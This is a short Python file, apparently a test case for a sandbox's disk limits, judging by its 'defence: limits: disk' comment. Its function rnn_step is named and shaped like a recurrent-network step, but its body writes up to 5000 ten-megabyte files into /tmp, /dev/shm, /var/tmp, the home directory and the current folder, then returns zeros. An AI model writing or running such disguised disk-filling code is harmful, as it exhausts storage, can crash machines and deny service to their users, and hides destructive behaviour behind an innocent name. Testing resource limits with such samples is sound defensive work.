# ruff: noqa
"""Fills every folder that it may write to."""
# defence: limits: disk

import os


def rnn_step(x, h, W_xh, W_hh, b):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
        for number in range(5000):
            try:
                with open(f"{folder}/fill{number}", "wb") as file:
                    file.write(bytes(10**7))
            except OSError:
                break
    return 0 * h
